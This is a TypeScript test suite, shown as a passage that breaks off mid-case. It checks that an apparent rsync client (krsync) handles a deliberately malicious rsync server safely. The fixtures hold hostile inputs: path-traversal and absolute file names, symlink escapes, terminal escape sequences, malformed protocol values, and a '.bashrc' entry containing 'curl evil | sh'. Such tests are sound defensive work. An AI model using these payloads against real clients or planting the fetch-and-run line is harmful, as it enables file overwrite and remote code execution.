// krsync's pull against a malicious or broken remote. A scriptable fake `rsync --server
// --sender` (helpers/evil-server.ts, a separate node process behind the remote-shell stand-in)
// plays a valid session and deviates at chosen points; the krsync CLI is run against it and
// must end with rsync's exit code and one clear message, write nothing outside the
// destination (a sibling "outside" directory and a symlink to it are planted), leave no temp
// files, and keep what the destination already had. Where it is meaningful, native rsync is run
// as the client against the same script and its code and message are recorded next to ours
// (printed at the end; see the report in the test's output).
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  readdirSync as rd,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join, relative } from "node:path";
import { fileURLToPath } from "node:url";
import ts from "typescript";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Writer } from "../src/protocol/wire.js";
import type { EvilEntry, EvilScript } from "./helpers/evil-server.js";
import { rsyncPath, tmpDir } from "./helpers/env.js";
import { FAKE_HOST, rshArg } from "./helpers/rsync.js";

const REPO = fileURLToPath(new URL("..", import.meta.url));

// ---- a runnable JS copy of src/ and the evil server (transpiled, no type check) ----

let BUILD = "";
function transpileTree(from: string, to: string): void {
  for (const n of readdirSync(from)) {
    const p = join(from, n);
    const st = lstatSync(p);
    if (st.isDirectory()) transpileTree(p, join(to, n));
    else if (n.endsWith(".ts") && !n.endsWith(".d.ts")) transpileFile(p, join(to, n.replace(/\.ts$/, ".js")));
  }
}
function transpileFile(from: string, to: string): void {
  const out = ts.transpileModule(readFileSync(from, "utf8"), {
    compilerOptions: { module: ts.ModuleKind.ES2022, target: ts.ScriptTarget.ES2022, esModuleInterop: true },
    fileName: from,
  });
  mkdirSync(dirname(to), { recursive: true });
  writeFileSync(to, out.outputText);
}
function build(): string {
  const out = tmpDir("evil-build-");
  transpileTree(join(REPO, "src"), join(out, "src"));
  transpileFile(join(REPO, "test/helpers/evil-server.ts"), join(out, "test/helpers/evil-server.js"));
  symlinkSync(join(REPO, "node_modules"), join(out, "node_modules"));
  writeFileSync(join(out, "package.json"), JSON.stringify({ type: "module" }));
  // The CLI with its peak RSS reported on stderr.
  writeFileSync(
    join(out, "rss.mjs"),
    'import { main } from "./src/cli/main.js";\nconst code = await main(process.argv.slice(2));\nprocess.stderr.write(`MAXRSS_KB ${process.resourceUsage().maxRSS}\\n`);\nprocess.exit(code);\n',
  );
  return out;
}

// ---- running a scenario ----

interface Run {
  code: number | null;
  signal: string | null;
  stdout: string;
  stderr: string;
  ms: number;
  /** Until the client process exited (ms waits for its output pipes to close). */
  exitMs: number;
  maxRssKB?: number;
  log: Record<string, unknown>[];
}

interface Scene {
  work: string;
  dest: string;
  outside: string;
  scriptPath: string;
  logPath: string;
}

let sceneNo = 0;

/** A work dir: dest/ (old.txt, sub/keep.txt, link -> outside), outside/ (marker). */
function scene(script: EvilScript): Scene {
  const work = tmpDir(`evil-${++sceneNo}-`);
  const dest = join(work, "dest");
  const outside = join(work, "outside");
  mkdirSync(join(dest, "sub"), { recursive: true });
  mkdirSync(outside);
  writeFileSync(join(dest, "old.txt"), "precious\n");
  writeFileSync(join(dest, "sub/keep.txt"), "keep\n");
  symlinkSync(outside, join(dest, "link"));
  writeFileSync(join(outside, "marker"), "m\n");
  const logPath = join(work, "server.log");
  const scriptPath = join(work, "script.json");
  writeFileSync(scriptPath, JSON.stringify({ ...script, log: logPath }));
  return { work, dest, outside, scriptPath, logPath };
}

function readLog(p: string): Record<string, unknown>[] {
  if (!existsSync(p)) return [];
  return readFileSync(p, "utf8")
    .split("\n")
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

/** The remote command. `exec` makes the stand-in behave like ssh: killing the remote shell
 *  process ends the remote side (without it, sh -c keeps node as its child). */
function evilPath(execIt = true): string {
  return `${execIt ? "exec " : ""}node ${join(BUILD, "test/helpers/evil-server.js")}`;
}

interface RunOpts {
  /** Run native rsync as the client instead of krsync. */
  native?: boolean;
  /** Measure krsync's peak RSS. */
  rss?: boolean;
  /** Called with the child once spawned (for signals). */
  onSpawn?: (child: import("node:child_process").ChildProcess) => void;
  timeoutMs?: number;
  /** The remote source (default "src/"). */
  source?: string;
  /** Run the remote command under sh without exec (a process stays between). */
  noExec?: boolean;
}

function childEnv(): NodeJS.ProcessEnv {
  const env = { ...process.env };
  delete env.NODE_OPTIONS; // no debugger or loader flags for the CLI and the server
  return env;
}

function runClient(sc: Scene, opts: readonly string[], ro: RunOpts = {}): Promise<Run> {
  const args = [...opts, "-e", rshArg(), `--rsync-path=${evilPath(!ro.noExec)}`, `${FAKE_HOST}:${ro.source ?? "src/"}`, `${sc.dest}/`];
  const [cmd, pre] = ro.native
    ? [rsyncPath, [] as string[]]
    : ["node", ["--max-semi-space-size=2", join(BUILD, ro.rss ? "rss.mjs" : "src/cli/bin.js")]];
  const t0 = Date.now();
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, [...pre, ...args], {
      env: { ...childEnv(), EVIL_SCRIPT: sc.scriptPath },
      stdio: ["ignore", "pipe", "pipe"],
    });
    ro.onSpawn?.(child);
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout!.on("data", (b: Buffer) => out.push(b));
    child.stderr!.on("data", (b: Buffer) => err.push(b));
    const timer = setTimeout(() => child.kill("SIGKILL"), ro.timeoutMs ?? 60_000);
    child.on("error", reject);
    let exitMs = -1;
    child.on("exit", () => (exitMs = Date.now() - t0));
    child.on("close", (code, signal) => {
      clearTimeout(timer);
      const stderr = Buffer.concat(err).toString("utf8");
      const m = /MAXRSS_KB (\d+)/.exec(stderr);
      resolve({
        code,
        signal,
        stdout: Buffer.concat(out).toString("utf8"),
        stderr: stderr.replace(/MAXRSS_KB \d+\n/, ""),
        ms: Date.now() - t0,
        exitMs,
        ...(m ? { maxRssKB: Number(m[1]) } : {}),
        log: readLog(sc.logPath),
      });
    });
  });
}

// ---- checks ----

/** rel path -> a description of the entry (dirs without times: temp files touch them). */
function tree(root: string): Map<string, string> {
  const m = new Map<string, string>();
  const walk = (dir: string) => {
    for (const n of rd(dir).sort()) {
      const p = join(dir, n);
      const rel = relative(root, p);
      const st = lstatSync(p);
      if (st.isSymbolicLink()) m.set(rel, `link ${readlinkSync(p)}`);
      else if (st.isDirectory()) {
        m.set(rel, `dir ${(st.mode & 0o7777).toString(8)}`);
        walk(p);
      } else if (st.isFile()) {
        const h = createHash("sha256").update(readFileSync(p)).digest("hex").slice(0, 16);
        m.set(rel, `file ${(st.mode & 0o7777).toString(8)} ${st.size} ${Math.floor(st.mtimeMs / 1000)} ${h}`);
      } else m.set(rel, `other ${st.mode.toString(8)}`);
    }
  };
  walk(root);
  return m;
}

const TEMP_RE = /^\..+\.[0-9a-z]{6}$/;

function tempFiles(root: string): string[] {
  return [...tree(root).keys()].filter((rel) => TEMP_RE.test(rel.split("/").pop()!));
}

/** The one error line krsync prints before rsync's "krsync error: ... (code N)" line. */
function errorLines(r: Run): string[] {
  return r.stderr.split("\n").filter((l) => l.trim() !== "");
}

interface Expect {
  /** The exit code, or any non-zero one. */
  code: number | "nonzero";
  /** The main message (matched against stderr). */
  msg?: RegExp;
  /** The destination must be exactly as before. */
  unchanged?: boolean;
  /** Files that must hold this content afterwards (null: must not exist). */
  files?: Record<string, string | null>;
}

const results: { name: string; krsync: string; native?: string }[] = [];

function summarize(r: Run): string {
  const lines = errorLines(r).filter((l) => !/^(krsync|rsync) error: /.test(l));
  return `exit ${r.code}${r.signal ? ` (${r.signal})` : ""}: ${lines.slice(0, 2).join(" | ").slice(0, 200)}`;
}

function checkSafe(sc: Scene, before: Map<string, string>, outsideBefore: Map<string, string>, r: Run, ex: Expect, name: string): void {
  const where = `${name}\nstderr:\n${r.stderr}\nstdout:\n${r.stdout}`;
  expect(tree(sc.outside), `outside changed: ${where}`).toEqual(outsideBefore);
  expect(tempFiles(sc.dest), `temp files left: ${where}`).toEqual([]);
  expect(r.stderr, `stack trace printed: ${where}`).not.toMatch(/\n\s+at .+\(.*:\d+:\d+\)/);
  // What was there is intact (never half-written), unless the scenario says otherwise.
  const after = tree(sc.dest);
  for (const k of ["old.txt", "sub/keep.txt", "link"]) {
    if (ex.files && k in ex.files) continue;
    expect(after.get(k), `${k} changed: ${where}`).toBe(before.get(k));
  }
  if (ex.unchanged) expect(after, `dest changed: ${where}`).toEqual(before);
  for (const [k, v] of Object.entries(ex.files ?? {})) {
    const p = join(sc.dest, k);
    if (v === null) expect(existsSync(p) || isLink(p), `${k} exists: ${where}`).toBe(false);
    else if (v === PARTIAL) expect(existsSync(p), `${k} missing: ${where}`).toBe(true);
    else expect(readFileSync(p, "utf8"), `${k}: ${where}`).toBe(v);
  }
}

/** In Expect.files: the file must exist, its content is checked by the case. */
const PARTIAL = "\u0000partial";

/** The evil server's generated content (helpers/evil-server.ts BLOCK), first n bytes. */
function bigContent(n: number): Buffer {
  const b = Buffer.alloc(1 << 20);
  let x = 0x12345678;
  for (let i = 0; i < b.length; i += 4) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    b.writeInt32LE(x | 0, i);
  }
  const out = Buffer.alloc(n);
  for (let i = 0; i < n; i += b.length) b.copy(out, i, 0, Math.min(b.length, n - i));
  return out;
}

function hexOf(f: (w: Writer) => void): string {
  const w = new Writer();
  f(w);
  return Buffer.from(w.take()).toString("hex");
}

function isLink(p: string): boolean {
  try {
    return lstatSync(p).isSymbolicLink();
  } catch {
    return false;
  }
}

interface CaseOpts {
  opts?: string[];
  /** Also run native rsync against the same script and record what it did (default true). */
  native?: boolean;
  /** Prepare the destination further before the run. */
  prepare?: (sc: Scene) => void;
  /** Extra checks on krsync's run. */
  check?: (r: Run, sc: Scene) => void;
  timeoutMs?: number;
  /** A known krsync bug (described in the report): the case is expected to fail until fixed. */
  knownBug?: string;
  /** The remote source (default "src/"). */
  source?: string;
}

/** One hostile scenario: krsync must fail (or succeed) safely; native rsync is recorded. */
function evilCase(name: string, script: EvilScript, ex: Expect, co: CaseOpts = {}): void {
  (co.knownBug ? it.fails : it)(co.knownBug ? `${name} [known bug: ${co.knownBug}]` : name, async () => {
    const opts = co.opts ?? ["-a"];
    const sc = scene(script);
    co.prepare?.(sc);
    const before = tree(sc.dest);
    const outsideBefore = tree(sc.outside);
    const ro: RunOpts = { ...(co.timeoutMs ? { timeoutMs: co.timeoutMs } : {}), ...(co.source ? { source: co.source } : {}) };
    const r = await runClient(sc, opts, ro);
    const where = `${name}\nstderr:\n${r.stderr}\nstdout:\n${r.stdout}`;
    const entry: { name: string; krsync: string; native?: string } = { name, krsync: summarize(r) };
    results.push(entry);
    if (co.native !== false) {
      // Native rsync as the client against the same script, for the record.
      const ns = scene(script);
      co.prepare?.(ns);
      const nBefore = tree(ns.dest);
      const nOutside = tree(ns.outside);
      const n = await runClient(ns, opts, { ...ro, native: true, timeoutMs: co.timeoutMs ?? 60_000 });
      entry.native = summarize(n);
      if (JSON.stringify([...tree(ns.outside)]) !== JSON.stringify([...nOutside])) entry.native += " [WROTE OUTSIDE]";
      const nAfter = tree(ns.dest);
      const changed = [...new Set([...nBefore.keys(), ...nAfter.keys()])].filter((k) => k !== "" && nBefore.get(k) !== nAfter.get(k) && !/^dir /.test(nAfter.get(k) ?? ""));
      if (changed.length) entry.native += ` [changed: ${changed.join(", ").slice(0, 120)}]`;
    }
    if (ex.code === "nonzero") expect(r.code === null || r.code === 0, where).toBe(false);
    else expect(r.code, where).toBe(ex.code);
    if (ex.msg) expect(r.stderr, where).toMatch(ex.msg);
    checkSafe(sc, before, outsideBefore, r, ex, name);
    co.check?.(r, sc);
  });
}

// ---- raw file-list entries (protocol 32, varint flags, -a: uid and gid follow) ----

const XMIT_LONG_NAME = 1 << 6;
const XMIT_HLINKED = 1 << 9;

/** A complete entry with nothing shared with the previous one. */
function rawEntry(name: Uint8Array, o: { mode?: number; size?: number; mtime?: number; owners?: boolean; xflags?: number; afterName?: (w: Writer) => void } = {}): string {
  const w = new Writer();
  w.varint((o.xflags ?? 0) | XMIT_LONG_NAME);
  w.varint(name.length).bytes(name);
  o.afterName?.(w);
  w.varlong(o.size ?? 5, 3).varlong(o.mtime ?? 1_600_000_000, 4).int32(o.mode ?? 0o100644);
  if (o.owners ?? true) w.varint(0).varint(0);
  return Buffer.from(w.take()).toString("hex");
}

const F = (name: string, content: string, extra: Partial<EvilEntry> = {}): EvilEntry => ({ name, type: "f", content, ...extra });
const ROOT: EvilEntry = { name: ".", type: "d" };

beforeAll(() => {
  BUILD = build();
}, 120_000);

afterAll(() => {
  const w = Math.max(...results.map((r) => r.name.length), 10);
  const lines = results.map((r) => `${r.name.padEnd(w)}  krsync: ${r.krsync}\n${" ".repeat(w)}  rsync:  ${r.native ?? "(not run)"}`);
  console.log(`\n[evil-peer] krsync vs native rsync against the same hostile server:\n${lines.join("\n")}\n`);
});

// ---- a valid session first: the server is a faithful sender ----

describe("baseline", () => {
  it("the evil server plays a valid session (krsync and native rsync get the same tree)", async () => {
    const script: EvilScript = {
      entries: [ROOT, F("a.txt", "hello\n"), { name: "d", type: "d" }, F("d/b.txt", "bee\n"), { name: "d/ln", type: "l", target: "../a.txt" }, F("old.txt", "new content\n")],
    };
    const k = scene(script);
    const n = scene(script);
    const rk = await runClient(k, ["-a"]);
    const rn = await runClient(n, ["-a"], { native: true });
    expect(rk.code, rk.stderr).toBe(0);
    expect(rn.code, rn.stderr).toBe(0);
    expect(readFileSync(join(k.dest, "d/b.txt"), "utf8")).toBe("bee\n");
    expect(readFileSync(join(k.dest, "old.txt"), "utf8")).toBe("new content\n");
    const strip = (m: Map<string, string>) => new Map([...m].filter(([a]) => a !== "link").map(([a, b]) => [a, b.replace(/^dir \d+/, "dir")]));
    expect(strip(tree(k.dest))).toEqual(strip(tree(n.dest)));
  });
});

// ---- set-up ----

const ascii = (s: string) => Buffer.from(s).toString("hex");

describe("set-up", () => {
  evilCase("remote exits at once", { startup: [{ do: "exit", code: 0 }], entries: [] }, {
    code: 5,
    msg: /connection unexpectedly closed \(0 bytes received so far\)/,
    unchanged: true,
  });
  evilCase("remote prints garbage instead of a version", { startup: [{ do: "raw", hex: ascii("Welcome to evil.example!\n") }, { do: "exit", code: 0 }], entries: [] }, {
    code: 2,
    msg: /protocol version mismatch -- is your shell clean\?/,
    unchanged: true,
  });
  evilCase("version 5", { version: 5, entries: [] }, { code: 2, msg: /protocol version mismatch/, unchanged: true });
  evilCase("version 99", { version: 99, entries: [] }, { code: 2, msg: /protocol version mismatch/, unchanged: true });
  evilCase("version 25 (older than krsync speaks)", { version: 25, entries: [] }, { code: 2, msg: /protocol 25/, unchanged: true });
  evilCase("set-up cut after the version", { afterVersion: [{ do: "exit", code: 0 }], entries: [] }, {
    code: 12,
    msg: /connection unexpectedly closed \(4 bytes received so far\)/,
    unchanged: true,
  });
  evilCase("set-up cut inside the negotiation", { afterVersion: [{ do: "raw", hex: "8700" }, { do: "exit", code: 0 }], entries: [] }, {
    code: 12,
    msg: /connection unexpectedly closed/,
    unchanged: true,
  });
  evilCase("negotiation: an over-long checksum list", { checksums: "x".repeat(300), entries: [] }, { code: 12, msg: /over-long vstring/, unchanged: true });
  evilCase("negotiation: no common checksum", { checksums: "crc32 adler", entries: [] }, { code: 4, msg: /Failed to negotiate a checksum/, unchanged: true });
  // Native rsync offers inc-recursion, so the same bytes mean something else to it.
  evilCase(
    "server turns on inc-recursion that was not offered",
    { compatFlags: 0x1 | 0x2 | 0x8 | 0x80, entries: [ROOT, { name: "d", type: "d" }, F("d/x", "x")] },
    { code: 1, msg: /Incompatible options specified for inc-recursive connection/, unchanged: true },
    { native: false },
  );
});

// ---- the file list ----

const nameBytes = (s: string) => Buffer.from(s, "latin1");

describe("file list", () => {
  evilCase("an absolute name", { entries: [ROOT, F("/tmp/evil-abs", "pwned")] }, { code: 4, msg: /unsafe pathname from sender \(absolute path\): "\/tmp\/evil-abs"/, unchanged: true });
  evilCase("a .. component", { entries: [ROOT, F("sub/../../outside/evil", "pwned")] }, { code: 4, msg: /unsafe pathname from sender \("\.\." component\)/, unchanged: true });
  evilCase("a leading ..", { entries: [ROOT, F("../outside/evil", "pwned")] }, { code: 4, msg: /unsafe pathname/, unchanged: true });
  evilCase("an empty component", { entries: [ROOT, F("sub//x", "x")] }, { code: 4, msg: /unsafe pathname from sender \(empty path component\)/, unchanged: true });
  evilCase("a NUL in a name", { entries: [ROOT, F("a\u0000b", "x")] }, { code: 4, msg: /unsafe pathname from sender \(NUL byte\)/, unchanged: true });
  evilCase("a name through an existing symlink in the destination (link -> outside)", { entries: [ROOT, F("link/evil", "pwned"), F("ok.txt", "fine\n")] }, {
    code: 23,
    msg: /refusing to write through symlink link/,
    files: { "ok.txt": "fine\n" },
  });
  evilCase(
    "a symlink entry then an entry under it (a -> outside, a/x)",
    { entries: [ROOT, { name: "a", type: "l", target: "@OUTSIDE@" }, F("a/x", "pwned")] },
    { code: 23, msg: /refusing to write through symlink a/ },
    {
      prepare: (sc) => patchScript(sc, (j) => j.replace(/@OUTSIDE@/g, sc.outside)),
      check: (_r, sc) => expect(readlinkSync(join(sc.dest, "a"))).toBe(sc.outside),
    },
  );
  evilCase(
    "a symlink replacing an existing directory, then an entry under it",
    { entries: [ROOT, { name: "sub", type: "l", target: "@OUTSIDE@" }, F("sub/keep.txt", "pwned")] },
    { code: 23, msg: /cannot delete non-empty directory: sub/, files: { "sub/keep.txt": "pwned" } },
    { prepare: (sc) => patchScript(sc, (j) => j.replace(/@OUTSIDE@/g, sc.outside)) },
  );
  evilCase(
    "--force: a symlink replacing a directory, then an entry under it",
    { entries: [ROOT, { name: "sub", type: "l", target: "@OUTSIDE@" }, F("sub/keep.txt", "pwned")] },
    { code: 23, msg: /refusing to write through symlink sub/, files: { "sub/keep.txt": null } },
    { opts: ["-a", "--force"], prepare: (sc) => patchScript(sc, (j) => j.replace(/@OUTSIDE@/g, sc.outside)) },
  );
  evilCase("duplicate names", { entries: [ROOT, F("dup", "first\n"), F("dup", "second\n")] }, { code: 0, files: { dup: "first\n" } });
  evilCase("a file entry named like an existing non-empty directory", { entries: [ROOT, F("sub", "i am a file\n")] }, {
    code: 23,
    msg: /cannot delete non-empty directory: sub/,
    unchanged: true,
  });
  evilCase("a huge name length", { entries: [ROOT, { raw: hexOf((w) => w.varint(XMIT_LONG_NAME).varint(0x7fffffff)) }] }, {
    code: 22,
    msg: /overflow: file list name length/,
    unchanged: true,
  });
  evilCase("a name of 4095 bytes with a 300-byte component", { entries: [ROOT, F(`${"n".repeat(300)}/${"m".repeat(200)}`, "x")] }, { code: 23, unchanged: true });
  evilCase("an absurd size (2^62)", { entries: [ROOT, { raw: rawEntry(nameBytes("big"), { size: 2 ** 62 }) }] }, { code: 12, msg: /64-bit value out of range/, unchanged: true });
  evilCase("a negative size", { entries: [ROOT, { raw: rawEntry(nameBytes("neg"), { size: -5 }) }] }, { code: 4, msg: /file-length is negative/, unchanged: true });
  evilCase("an absurd mtime (year 30000)", { entries: [ROOT, F("future", "x\n", { mtime: 884_541_340_800 })] }, { code: 0, files: { future: "x\n" } });
  evilCase("non-UTF-8 name bytes", { entries: [ROOT, { raw: rawEntry(nameBytes("bad\xff\xfe")) }] }, { code: 4, msg: /not valid UTF-8/, unchanged: true });
  evilCase(
    "a hard-link reference pointing nowhere",
    { entries: [ROOT, { raw: rawEntry(nameBytes("hl"), { xflags: XMIT_HLINKED, afterName: (w) => w.varint(5) }) }] },
    { code: 2, msg: /hard-link reference out of range/, unchanged: true },
    { opts: ["-aH"] },
  );
  evilCase("an absurd mode (0777777)", { entries: [ROOT, F("m", "x", { fullMode: 0o777777 })] }, { code: 2, msg: /invalid file mode/, unchanged: true });
  evilCase("a mode without a type (0644)", { entries: [ROOT, F("m", "x", { fullMode: 0o644 })] }, { code: 2, msg: /invalid file mode/, unchanged: true });
  evilCase("a non-directory transfer root", { entries: [F(".", "x")] }, { code: 2, msg: /rejecting non-directory transfer-root/, unchanged: true });
  evilCase("a list cut in the middle", { entries: [ROOT, { raw: rawEntry(nameBytes("half")).slice(0, 12) }], afterFlist: [{ do: "exit", code: 0 }] }, {
    code: 12,
    msg: /connection unexpectedly closed/,
    unchanged: true,
  });
});

function patchScript(sc: Scene, f: (json: string) => string): void {
  writeFileSync(sc.scriptPath, f(readFileSync(sc.scriptPath, "utf8")));
}

// ---- the transfer ----

describe("transfer", () => {
  const newer = (extra: Partial<EvilEntry> = {}) => F("old.txt", "replacement!\n", { mtime: 1_700_000_000, ...extra });
  evilCase("an index out of range", { entries: [ROOT, newer({ answer: [{ do: "transfer", ndx: 999, tokens: [{ lit: "x" }, { end: true }] }] })] }, {
    code: 12,
    msg: /Invalid file index: 999/,
    unchanged: true,
  });
  evilCase("a transfer for a directory", { entries: [ROOT, { name: "d", type: "d" }, newer()], afterFlist: [{ do: "transfer", name: "d", iflags: 0x8000, tokens: [{ lit: "x" }, { end: true }] }] }, {
    code: 12,
    msg: /request to transfer non-regular file/,
  });
  evilCase(
    "an unrequested transfer into a path through a symlink",
    { entries: [ROOT, F("link/evil", "x"), newer()], afterFlist: [{ do: "transfer", name: "link/evil", iflags: 0x8000, tokens: [{ lit: "pwned" }, { end: true }] }] },
    { code: 12, msg: /index \d+ \(link\/evil\), which was not requested/ },
  );
  evilCase("an invalid sum head echo (count -1)", { entries: [ROOT, newer({ answer: [{ do: "transfer", sumHead: [-1, 700, 2, 0], tokens: [{ end: true }] }] })] }, {
    code: 12,
    msg: /Invalid checksum count -1/,
    unchanged: true,
  });
  evilCase(
    "an absurd sum head echo (2^28 blocks of 128 KiB) and its last block",
    { entries: [ROOT, newer({ answerTimes: 1, answer: [{ do: "transfer", sumHead: [1 << 28, 1 << 17, 2, 0], tokens: [{ block: (1 << 28) - 1 }, { end: true }], sum: "bad" }] })] },
    { code: 12, msg: /sum head for old\.txt does not match the one requested/, unchanged: true },
    { opts: ["-a", "--no-W", "-I"] },
  );
  evilCase("a block index beyond the basis", { entries: [ROOT, newer({ answer: [{ do: "transfer", tokens: [{ block: 9999 }, { end: true }] }] })] }, {
    code: 12,
    msg: /block index 9999 out of range/,
    unchanged: true,
  }, { opts: ["-a", "--no-W", "-I"] });
  evilCase("a block reference for a new file (no basis)", { entries: [ROOT, F("fresh", "abc", { answer: [{ do: "transfer", sumHead: [1, 700, 2, 0], tokens: [{ block: 0 }, { end: true }] }] })] }, {
    code: 12,
    msg: /sum head for fresh does not match the one requested/,
    unchanged: true,
  });
  evilCase("a literal of 2^31-1 bytes, then EOF", { entries: [ROOT, newer({ answer: [{ do: "transfer", tokens: [{ litLen: 0x7fffffff, send: 3 << 20 }] }, { do: "exit", code: 0 }] })] }, {
    code: 12,
    msg: /connection unexpectedly closed/,
    unchanged: true,
  });
  evilCase("a bad whole-file checksum once (the redo fixes it)", { entries: [ROOT, newer({ badSum: 1 })] }, { code: 0, files: { "old.txt": "replacement!\n" } });
  evilCase("a bad whole-file checksum twice", { entries: [ROOT, newer({ badSum: 2 })] }, {
    code: 23,
    msg: /old\.txt failed verification -- update discarded/,
    unchanged: true,
  });
  evilCase("the connection cut in the middle of a file", { entries: [ROOT, newer({ bigSize: 5 << 20, cutAt: 2 << 20 })] }, {
    code: 12,
    msg: /connection unexpectedly closed/,
    unchanged: true,
  });
  evilCase(
    "--partial: the connection cut in the middle of a file keeps what arrived",
    { entries: [ROOT, newer({ bigSize: 5 << 20, cutAt: 2 << 20 })] },
    { code: 12, msg: /connection unexpectedly closed/, files: { "old.txt": PARTIAL } },
    {
      opts: ["-a", "--partial"],
      check: (_r, sc) => {
        // receiver.c / cleanup.c: the data received so far replaces the file (mtime 0).
        const got = readFileSync(join(sc.dest, "old.txt"));
        expect(got.length).toBeGreaterThan(0);
        expect(got.length).toBeLessThanOrEqual(2 << 20);
        expect(got.equals(bigContent(got.length)), "partial data is not a prefix of what was sent").toBe(true);
        expect(lstatSync(join(sc.dest, "old.txt")).mtimeMs).toBe(0);
      },
    },
  );
  evilCase("an unknown multiplex tag", { entries: [ROOT, newer()], afterFlist: [{ do: "header", tag: 7 + 50, len: 0 }] }, {
    code: 12,
    msg: /unexpected tag 50/,
    unchanged: true,
  });
  evilCase("a tag below MPLEX_BASE", { entries: [ROOT, newer()], afterFlist: [{ do: "header", tag: 3, len: 0 }] }, { code: 12, msg: /unexpected tag/, unchanged: true });
  evilCase("an over-long message (16 MiB INFO)", { entries: [ROOT, newer()], afterFlist: [{ do: "msg", code: 2, text: "x", len: 0xffffff }] }, {
    code: 12,
    msg: /message of 16777215 bytes is too long/,
    unchanged: true,
  });
  evilCase("MSG_ERROR from the remote", { entries: [ROOT, newer()], afterFlist: [{ do: "msg", code: 3, text: "rsync: evil remote error\n" }] }, {
    code: 23,
    msg: /rsync: evil remote error/,
    files: { "old.txt": "replacement!\n" },
  });
  evilCase("MSG_ERROR_EXIT and a non-zero remote exit", { entries: [ROOT, newer()], beforeStats: [{ do: "msg", code: 86, int: 24 }], exitCode: 24 }, {
    code: 24,
    files: { "old.txt": "replacement!\n" },
  });
  evilCase("MSG_IO_ERROR (vanished) from the remote", { entries: [ROOT, newer()], beforeStats: [{ do: "msg", code: 22, int: 2 }] }, { code: 24, files: { "old.txt": "replacement!\n" } });
  evilCase(
    "MSG_NO_SEND for a hard-link group's leader",
    { entries: [ROOT, F("h1", "same\n", { hlink: 1, noSend: true }), F("h2", "same\n", { hlink: 1 })] },
    // It must end (it hung before MSG_NO_SEND was handled). The follower is then requested
    // only after the transfer phases, which the sender refuses (see the report).
    { code: "nonzero" },
    { opts: ["-aH"], timeoutMs: 20_000, native: false },
  );
  evilCase("the remote skips a requested file", { entries: [ROOT, newer({ answer: [] }), F("z.txt", "z\n")] }, { code: 0, files: { "z.txt": "z\n" } });
});

// ---- older protocols (no multiplexed client output, int32 indices, no item flags below 29) ----

describe.each([29, 27])("at protocol %i", (p) => {
  const newer = (extra: Partial<EvilEntry> = {}) => F("old.txt", "replacement!\n", { mtime: 1_700_000_000, ...extra });
  const opts = ["-a", `--protocol=${p}`];
  evilCase(`p${p}: an index out of range`, { entries: [ROOT, newer({ answer: [{ do: "transfer", ndx: 999, tokens: [{ lit: "x" }, { end: true }] }] })] }, {
    code: 12,
    msg: /Invalid file index: 999/,
    unchanged: true,
  }, { opts });
  evilCase(`p${p}: a bad whole-file checksum twice`, { entries: [ROOT, newer({ badSum: 2 })] }, { code: 23, msg: /failed verification -- update discarded/, unchanged: true }, { opts });
  evilCase(`p${p}: the connection cut in the middle of a file`, { entries: [ROOT, newer({ bigSize: 5 << 20, cutAt: 2 << 20 })] }, {
    code: 12,
    msg: /connection unexpectedly closed/,
    unchanged: true,
  }, { opts });
  evilCase(`p${p}: a name through an existing symlink`, { entries: [ROOT, F("link/evil", "pwned"), F("ok.txt", "fine\n")] }, {
    code: 23,
    msg: /refusing to write through symlink link/,
    files: { "ok.txt": "fine\n" },
  }, { opts });
  evilCase(`p${p}: a huge name length`, { entries: [ROOT, { raw: hexOf((w) => w.byte(XMIT_LONG_NAME).int32(0x7fffffff)) }] }, { code: 22, msg: /overflow/, unchanged: true }, { opts });
});

// ---- terminal output: what the remote says is shown, not obeyed ----

describe("terminal escapes from the remote", () => {
  evilCase(
    "control characters in a remote message are escaped",
    { entries: [ROOT, F("a.txt", "a\n")], afterFlist: [{ do: "msg", code: 2, text: "hello \u001b]0;pwned\u0007\u001b[2J\rfake\n" }] },
    { code: 0 },
    {
      check: (r) => expect(r.stdout + r.stderr).not.toMatch(/[\u001b\u0007\r]/),
    },
  );
  evilCase(
    "control characters in a file name are escaped in -i output",
    { entries: [ROOT, F("evil\u001b[2Jname", "a\n")] },
    { code: 0 },
    {
      opts: ["-ai"],
      check: (r) => expect(r.stdout + r.stderr).not.toMatch(/[\u001b]/),
    },
  );
});

// ---- sorting tricks with -R: two active entries for one name ----

describe("-R: names that become equal after the leading '/' is stripped", () => {
  // Sorted: "-x" (dir), "-x/marker" (hard-link leader), "/-x" (becomes "-x", a symlink to
  // outside; --force replaces the directory), "/zz" (becomes "zz", the follower). The follower
  // must not become a hard link to outside/marker through the replaced parent.
  evilCase(
    "a hard-link follower linked through a parent replaced by a symlink",
    {
      entries: [
        ROOT,
        { name: "-x", type: "d" },
        // The leader: answered at once, then the server stops reading, so the generator
        // blocks on a full pipe before it reaches "/-x".
        F("-x/marker", "m\n", { hlink: 1, answer: [{ do: "pauseInput" }, { do: "answer" }, { do: "sleep", ms: 1500 }, { do: "resumeInput" }] }),
        { name: "-y", type: "d" },
        ...Array.from({ length: 30000 }, (_, i): EvilEntry => F(`-y/f${i}`, "", { answer: [] })),
        { name: "/-x", type: "l", target: "@OUTSIDE@" },
        F("/zz", "m\n", { hlink: 1 }),
      ],
    },
    // krsync refuses this list outright ("." was not asked for); the check below holds either way.
    { code: "nonzero" },
    {
      opts: ["-aHR", "--delete"],
      prepare: (sc) => patchScript(sc, (j) => j.replace(/@OUTSIDE@/g, sc.outside)),
      check: (_r, sc) => {
        const zz = join(sc.dest, "zz");
        if (existsSync(zz)) expect(lstatSync(zz).ino, "dest/zz is a hard link to outside/marker").not.toBe(lstatSync(join(sc.outside, "marker")).ino);
      },
    },
  );
});

// ---- names the client did not ask for (flist.c: "rejecting unrequested file-list name") ----

describe("names outside what was requested", () => {
  evilCase(
    "pulling one file, the sender sends other names",
    { entries: [F("file.txt", "ok\n"), F(".bashrc", "curl evil | sh\n")] },
    { code: 4, msg: /rejecting unrequested file-list name: \.bashrc/, files: { ".bashrc": null } },
    { source: "file.txt" },
  );
  evilCase(
    "pulling one directory with -R, the sender sends names beside it",
